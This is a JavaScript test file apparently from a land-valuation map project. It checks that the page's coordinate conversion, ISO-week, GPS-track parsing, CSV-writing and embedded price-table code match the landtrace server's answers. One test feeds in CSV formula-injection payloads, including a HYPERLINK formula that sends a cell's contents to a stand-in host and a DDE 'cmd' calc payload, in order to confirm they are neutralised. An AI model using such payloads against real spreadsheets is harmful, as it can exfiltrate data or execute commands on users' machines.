// The few rules the map client keeps for itself (web/src/lib/, web/build-data.js) must
// give the server's answers: the server has no endpoint the page could ask instead
// (see web/README.md). Each test asks `landtrace serve` and compares:
//
// - GCJ-02 → WGS84 (lib/gcj02.js) with the point of `api/locate?crs=gcj02`;
// - ISO weeks (lib/iso-week.js) with `api/trace/ledger` (week, Monday, Sunday, report
//   day; 400 for a week that does not exist) and today's week and date;
// - track reading (lib/track-fixes.js) with `api/truck-ban/track?max_gap_s=1` and fixes
//   more than a second apart, so that every fix after the first is a gap: the answer
//   lists every fix the server read with its time, and the problems name every record
//   it refused;
// - CSV cells (lib/csv.js) with the CSV report of `api/land/valuation/batch`;
// - the data the build embeds (build-data.js: price tables, county code) with
//   `api/locate`.
//
// Runs with the browser test (npm test here); needs the landtrace binary
// (LANDTRACE_BIN, default target/debug/landtrace), or LANDTRACE_TEST_URL for a running
// server (read-only requests).

import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { buildData } from '../../web/build-data.js';
import { csvCell, csvFields, csvRecords, formulaSafe } from '../../web/src/lib/csv.js';
import { gcjToWgs } from '../../web/src/lib/gcj02.js';
import { addDays, isoWeekOf, normaliseWeek, weekRange } from '../../web/src/lib/iso-week.js';
import { todayShanghai } from '../../web/src/lib/time.js';
import { readFixes } from '../../web/src/lib/track-fixes.js';
import { defaultLedgerWeek } from '../../web/src/tools/trace/ledger-edit.js';
import { bin, repo, startServer } from './server.mjs';

let server;
let baseUrl;

before(async () => {
  const external = process.env.LANDTRACE_TEST_URL?.replace(/\/$/, '');
  if (external) {
    baseUrl = external;
  } else {
    assert.ok(existsSync(bin), `missing the landtrace binary (cargo build -p landtrace-cli): ${bin}`);
    server = await startServer();
    ({ baseUrl } = server);
  }
});

after(() => server?.stop());

async function get(pathAndQuery) {
  const res = await fetch(baseUrl + pathAndQuery);
  return { status: res.status, body: await res.json() };
}

async function post(pathAndQuery, body) {
  const res = await fetch(baseUrl + pathAndQuery, { method: 'POST', body, headers: { 'content-type': 'text/plain; charset=utf-8' } });
  assert.equal(res.status, 200, `POST ${pathAndQuery}: ${res.status} ${await res.clone().text()}`);
  return res;
}

// ----- GCJ-02 ------------------------------------------------------------------------------

test('GCJ-02 → WGS84 is the server\'s (api/locate?crs=gcj02)', async () => {
  const points = [];
  // The county, on a grid.
  for (let lon = 110.3; lon <= 110.96; lon += 0.11) for (let lat = 34.95; lat <= 35.36; lat += 0.1) points.push([lon, lat]);
  // Across China, and at and beyond the edges of the box where the formula applies.
  points.push([116.397, 39.909], [121.47, 31.23], [87.6, 43.8], [126.6, 45.7], [113.26, 23.13], [91.1, 29.65],
    [72.004, 30], [72.0039, 30], [137.8347, 40], [137.8348, 40], [110, 0.8293], [110, 0.8292], [110, 55.8271], [110, 55.83]);
  // Outside China: unchanged.
  points.push([10, 35], [-74, 40.7], [151.2, -33.9], [110.775, 0.5], [0, 0], [-180, -90], [180, 90]);
  for (const [lon, lat] of points) {
    const { status, body } = await get(`/api/locate?lon=${lon}&lat=${lat}&crs=gcj02`);
    assert.equal(status, 200, JSON.stringify(body));
    const [x, y] = gcjToWgs([lon, lat]);
    const d = Math.max(Math.abs(x - body.point.lon), Math.abs(y - body.point.lat));
    assert.ok(d <= 1e-9, `GCJ-02 (${lon}, ${lat}): page (${x}, ${y}), server (${body.point.lon}, ${body.point.lat}), ${d}°`);
  }
});

// ----- ISO weeks ------------------------------------------------------------------------------

test('ISO weeks, their days and the report day are the server\'s (api/trace/ledger)', async () => {
  const weeks = [];
  for (const year of [1, 50, 1900, 1999, 2000, 2004, 2009, 2015, 2020, 2021, 2023, 2024, 2026, 2027, 2032, 2100, 9998]) {
    const y = String(year).padStart(4, '0');
    weeks.push(`${y}-W01`, `${y}-W02`, `${y}-W26`, `${y}-W52`, `${y}-W53`);
  }
  // Other spellings the server reads, and ones it refuses.
  weeks.push('2023W24', '2023-w24', '2023-W5', ' 2023-W24 ', '2023-W00', '2023-W54', '2023-W024', '2023-24', '23-W24', 'W24',
    '2023-W', '2023--W24', '2023-W2a', '0000-W01', '2023-X24');
  let valid = 0;
  for (const week of weeks) {
    const { status, body } = await get(`/api/trace/ledger?week=${encodeURIComponent(week)}&format=json`);
    const mine = normaliseWeek(week);
    if (status === 400) {
      assert.equal(mine, null, `${JSON.stringify(week)}: the server refuses it (${body.error}), the page reads ${mine}`);
      continue;
    }
    assert.equal(status, 200, JSON.stringify(body));
    valid += 1;
    assert.equal(mine, body.week, `${JSON.stringify(week)}: the page reads ${mine}, the server ${body.week}`);
    assert.deepEqual(weekRange(week), { from: body.from, to: body.to, report: body.report_due }, week);
    for (let i = -1; i <= 7; i++) {
      const day = addDays(body.from, i);
      assert.equal(isoWeekOf(day) === body.week, i >= 0 && i <= 6, `${day} and ${body.week}`);
    }
  }
  assert.ok(valid >= 70, `only ${valid} weeks compared`);
});

test('today and this week in Asia/Shanghai are the server\'s', async () => {
  const before = todayShanghai();
  const [ledger, due] = await Promise.all([get('/api/trace/ledger?format=json'), get('/api/trace/due')]);
  const afterwards = todayShanghai();
  assert.ok([before, afterwards].includes(due.body.as_of), `today: page ${before}, server ${due.body.as_of}`);
  // The ledger's default week: the last complete week, reported on Tuesday.
  assert.ok([before, afterwards].map(defaultLedgerWeek).includes(ledger.body.week), `ledger week: page ${defaultLedgerWeek(before)}, server ${ledger.body.week}`);
});

// ----- GPS tracks -----------------------------------------------------------------------------

/**
 * Checks `text` with the server (`max_gap_s=1`, the fixes more than 1 s apart) and compares its reading with the
 * page's: the same fixes (location and time) and, of the `records` (every location the
 * file has a record at), the server's problems exactly at those the page left out.
 */
async function sameFixes(text, format, records, crs = 'wgs84') {
  const q = new URLSearchParams({ format, max_gap_s: '1', ...(crs === 'gcj02' ? { crs } : {}) });
  const report = await (await post(`/api/truck-ban/track?${q}`, text)).json();
  const mine = readFixes(text, { format, crs });
  assert.equal(mine.length, report.fixes, `${format}: the page reads ${mine.length} fixes, the server ${report.fixes}`);
  assert.ok(mine.length >= 2, `${format}: too few fixes to compare`);
  // Times more than a second apart: every fix after the first starts a gap.
  const server = [[report.gaps[0].from, report.gaps[0].from_t_ms], ...report.gaps.map((g) => [g.to, g.to_t_ms])];
  assert.deepEqual(mine.map((f) => [f.at, f.t]), server, `${format}: fixes and times`);
  const read = new Set(mine.map((f) => f.at));
  assert.deepEqual(report.problems.map((p) => p.at), records.filter((at) => !read.has(at)),
    `${format}: refused records\n${report.problems.map((p) => `${p.at}: ${p.message}`).join('\n')}`);
  return mine;
}

const BASE = Date.UTC(2024, 4, 1) / 1000; // 2024-05-01T00:00:00Z in unix seconds

test('CSV tracks are read as the server reads them (times, coordinates, quoting)', async () => {
  // [time, lon, lat]: increasing times in every form the server accepts, and records it refuses.
  const rows = [
    ['2024-05-01T00:00:00Z', '110.70', '35.14'],
    ['2024-05-01t00:00:02z', '110.701', '35.14'],
    ['2024-05-01 00:00:04Z', '110.702', '35.14'],
    ['2024-05-01T08:00:06+08:00', '110.703', '35.14'],
    ['2024-05-01T08:00:08+0800', ' 110.704 ', '35.14'],
    ['2024-05-01T08:00:10+08', '+110.705', '35.14'],
    ['2024-04-30T19:30:12-04:30', '110.706', '35.140'],
    ['2024-05-01T00:00:14.5Z', '110.707', '3514e-2'],
    ['2024-05-01T00:00:17.123999Z', '110.', '35.14'],
    ['"2024-05-01T00:00:19Z"', '"110.709"', '35.14'],
    ['2024-05-01T00:00:57Z', '110.710', '35.14'],
    ['2024-05-01T00:00:60Z', '110.711', '35.14'], // a leap second: 00:01:00
    [String(BASE + 62), '110.712', '35.14'],
    [`${BASE + 64}.25`, '110.713', '35.14'],
    [`${BASE + 67}.`, '110.714', '35.14'],
    // Issue 15: no offset is Beijing time (08:01:20+08:00 = 00:01:20Z).
    ['2024-05-01 08:01:20', '110.7145', '35.14'],
    // Refused: no time, bad times, out of range, bad coordinates.
    ['', '110.715', '35.14'],
    ['bad', '110.716', '35.14'],
    ['2024-02-30T00:00:00Z', '110.718', '35.14'],
    ['2024-05-01T24:00:00Z', '110.719', '35.14'],
    ['2024-05-01T00:00:00+24:00', '110.720', '35.14'],
    ['2024-05-01T00:00:00.Z', '110.721', '35.14'],
    ['2024-5-1T00:00:00Z', '110.722', '35.14'],
    ['1e9', '110.723', '35.14'],
    ['0x10', '110.724', '35.14'],
    ['2024-05-01T00:01:05Z', '190', '35.14'],
    ['2024-05-01T00:01:06Z', 'NaN', '35.14'],
    ['2024-05-01T00:01:07Z', 'inf', '35.14'],
    ['2024-05-01T00:01:08Z', '', '35.14'],
    ['2024-05-01T00:01:09Z', '"110,75"', '35.14'],
    ['2024-05-01T00:01:10Z', '0x6E', '35.14'],
    ['2024-05-01T00:01:11Z', '110.73'],
    // Read again after the refused ones.
    ['2024-05-01T00:02:00Z', '110.74', '35.15'],
  ];
  const lines = ['\uFEFFlon,Time,speed,lat', ...rows.map(([tm, lon, lat]) => [lon, tm, '12', lat].filter((x) => x != null).join(','))];
  // A blank line in between counts as a line.
  lines.splice(5, 0, '');
  const text = `${lines.join('\r\n')}\r\n`;
  const records = [];
  text.split('\n').forEach((l, i) => { if (i > 0 && l.trim()) records.push(`line ${i + 1}`); });
  const fixes = await sameFixes(text, 'csv', records);
  assert.equal(fixes.length, 17);
  await sameFixes(text, 'csv', records, 'gcj02');
});

test('GPX tracks are read as the server reads them (prefixes, comments, CDATA, unclosed points)', async () => {
  const text = [
    '\uFEFF<?xml version="1.0" encoding="UTF-8"?>',
    '<gpx xmlns="http://www.topografix.com/GPX/1/1" xmlns:gpx="http://www.topografix.com/GPX/1/1" version="1.1">',
    '<wpt lat="35" lon="110"><time>2024-05-01T00:00:00Z</time></wpt>',
    '<!-- <trkpt lat="1" lon="1"><time>1970-01-01T00:00:00Z</time></trkpt> -->',
    '<trk><trkseg>',
    '<trkpt lat="35.14" lon="110.70"><ele>400</ele><time>2024-05-01T00:00:01Z</time></trkpt>',
    "<trkpt lon='110.71' lat='35.14'><time>",
    '  2024-05-01T08:00:03+08:00',
    '</time><extensions><![CDATA[ <time>x</time> > ]]></extensions></trkpt>',
    '<gpx:trkpt lat="35.14" lon="110.72"><gpx:time>2024-05-01T00:00:05Z</gpx:time></gpx:trkpt>',
    '<trkpt lat="35.14" lon="110.73"><time>2024-05-01T00:00:07Z</time><time>1999-01-01T00:00:00Z</time></trkpt>',
    '<trkpt lat="35.14" lon="110.74"/>',
    '<trkpt lat="NaN" lon="110.75"><time>2024-05-01T00:00:09Z</time></trkpt>',
    '<trkpt lat="35.14"><time>2024-05-01T00:00:11Z</time></trkpt>',
    // Issue 15: a time without an offset is Beijing time (08:00:13+08:00 = 00:00:13Z).
    '<trkpt lat="35.14" lon="110.76"><time>2024-05-01T08:00:13</time></trkpt>',
    '<trkpt lat="35.14" lon="110.77"><time>2024-05-01T00:00:15Z</time>',
    '<trkpt lat="35.14" lon="110.78"><time>1714521617</time></trkpt>',
    '</trkseg></trk></gpx>',
  ].join('\n');
  const records = [];
  text.split('\n').forEach((l, i) => { if (/<(gpx:)?trkpt /.test(l) && !l.includes('<!--')) records.push(`line ${i + 1}`); });
  const fixes = await sameFixes(text, 'gpx', records);
  assert.equal(fixes.length, 7);
  await sameFixes(text, 'gpx', records, 'gcj02');
});

test('GeoJSON tracks are read as the server reads them (points, lines with times)', async () => {
  const point = (c, time) => ({ type: 'Feature', geometry: { type: 'Point', coordinates: c }, properties: time === undefined ? {} : { time } });
  const collection = {
    type: 'FeatureCollection',
    features: [
      point([110.70, 35.14], '2024-05-01T00:00:00Z'),
      point([110.71, 35.14], BASE + 2.5),
      point([110.72, 35.14], `${BASE + 5}`),
      point([110.73, 35.14]),
      point([110.74, 35.14], null),
      point([110.75, 35.14], true),
      point([110.76, '35.14'], BASE + 7),
      point([190, 35.14], BASE + 9),
      { type: 'Feature', geometry: { type: 'Polygon', coordinates: [] }, properties: { time: BASE + 11 } },
      { type: 'Feature', geometry: { type: 'LineString', coordinates: [[110.77, 35.14], [110.78, 35.14], [110.79, 35.14]] },
        properties: { times: ['2024-05-01T00:00:13Z', null, BASE + 17] } },
      { type: 'Feature', geometry: { type: 'LineString', coordinates: [[110.80, 35.14]] }, properties: { coordTimes: [] } },
      point([110.81, 35.14], '2024-05-01T08:00:19+08:00'),
    ],
  };
  const records = ['features[0]', 'features[1]', 'features[2]', 'features[3]', 'features[4]', 'features[5]', 'features[6]',
    'features[7]', 'features[8]', 'features[9].geometry.coordinates[0]', 'features[9].geometry.coordinates[1]',
    'features[9].geometry.coordinates[2]', 'features[10]', 'features[11]'];
  const fixes = await sameFixes(JSON.stringify(collection), 'geojson', records);
  assert.equal(fixes.length, 6);
  const line = { type: 'Feature', geometry: { type: 'LineString', coordinates: [[110.7, 35.1], [110.71, 35.1], [110.72, 35.1]] },
    properties: { coordTimes: ['2024-05-01T00:00:00Z', '2024-05-01T00:00:02Z', '2024-05-01T00:00:04+00:00'] } };
  await sameFixes(`\uFEFF${JSON.stringify(line)}`, 'geojson', [0, 1, 2].map((i) => `geometry.coordinates[${i}]`), 'gcj02');
});

// ----- CSV cells ---------------------------------------------------------------------------

test('CSV cells are written as the server writes them (api/land/valuation/batch CSV report)', async () => {
  // (The batch reader trims an id, so no id here begins or ends with white space.)
  const ids = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", '-2+3', '-', '@SUM(A1:A2)', '=1', '--1', '-1e',
    '-2', '+3', '-0.5', '0.5', '.5', '5.', '1e5', '-1.5E-3', '969000.00', '猗氏镇', 'a=b', 'a,b', 'say "hi"', '=1\t+1'];
  const wkt = 'POLYGON((110.774 35.139,110.776 35.139,110.776 35.141,110.774 35.141,110.774 35.139))';
  const quote = (s) => `"${s.replaceAll('"', '""')}"`;
  const input = ['id,wkt', ...ids.map((id) => `${quote(id)},${quote(wkt)}`)].join('\n');
  const q = new URLSearchParams({ use: '商服', filename: 'ids.csv', format: 'csv' });
  const report = await (await post(`/api/land/valuation/batch?${q}`, input)).text();
  const lines = report.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean);
  assert.equal(lines.length, ids.length + 1, report);
  ids.forEach((id, i) => {
    const line = lines[i + 1];
    assert.ok(line.startsWith(`${i + 1},${csvCell(id)},`), `id ${JSON.stringify(id)}: the page writes ${csvCell(id)}, the server ${line}`);
    assert.equal(csvFields(line)[1], formulaSafe(id));
  });
  assert.equal(csvRecords(report).length, ids.length + 1);
});

// ----- what the build embeds ---------------------------------------------------------------

/** A point inside a polygon's rings (outer and holes): between the first two crossings of the middle latitude. */
function insidePoint(rings) {
  const ys = rings.flat().map((c) => c[1]);
  const y = (Math.min(...ys) + Math.max(...ys)) / 2 + 1e-7;
  const xs = [];
  for (const ring of rings) {
    for (let i = 1; i < ring.length; i++) {
      const [[x0, y0], [x1, y1]] = [ring[i - 1], ring[i]];
      if ((y0 > y) !== (y1 > y)) xs.push(x0 + ((y - y0) * (x1 - x0)) / (y1 - y0));
    }
  }
  xs.sort((a, b) => a - b);
  return [(xs[0] + xs[1]) / 2, y];
}

test('the price tables and the county the build embeds are the server\'s (api/locate)', async () => {
  const data = buildData();
  const tables = { urban_grade_zones: data.urbanPrices, collective_grade_zones: data.collectivePrices };
  const seen = new Set();
  for (const layer of Object.keys(tables)) {
    const fc = JSON.parse(readFileSync(path.join(repo, `data/demo/${layer}.geojson`), 'utf8'));
    for (const f of fc.features) {
      const polygons = f.geometry.type === 'MultiPolygon' ? f.geometry.coordinates : [f.geometry.coordinates];
      const [lon, lat] = insidePoint(polygons[0]);
      const { body } = await get(`/api/locate?lon=${lon.toFixed(7)}&lat=${lat.toFixed(7)}`);
      const hit = body.hits.find((h) => h.layer === layer && h.details?.prices);
      if (!hit) continue;
      const grade = String(hit.properties.grade);
      const rows = tables[layer].filter((r) => r.grade === grade);
      assert.deepEqual(rows.map((r) => [r.land_use, Number(r.yuan_per_m2), Number(r.wan_yuan_per_mu)]),
        hit.details.prices.map((p) => [p.land_use, p.yuan_per_m2, p.wan_yuan_per_mu]), `${layer} grade ${grade}`);
      for (const r of rows) assert.equal(r.in_force, hit.details.in_force, `${layer} grade ${grade}: in force`);
      seen.add(`${layer} ${grade}`);
    }
  }
  // Every grade of both tables has a demo zone, so every row was compared.
  const grades = Object.entries(tables).flatMap(([layer, rows]) => [...new Set(rows.map((r) => `${layer} ${r.grade}`))]);
  assert.deepEqual([...seen].sort(), grades.sort());

  // The county: the code the map outlines and the initial view's box.
  const [w, s, e, n] = data.countyBbox;
  const { body } = await get(`/api/locate?lon=${(w + e) / 2}&lat=${(s + n) / 2}`);
  const county = body.hits.find((h) => h.layer === 'county_boundaries' && h.properties.level === 'county');
  assert.equal(county?.properties.adcode, data.countyAdcode, JSON.stringify(body.hits.map((h) => h.properties)));
});
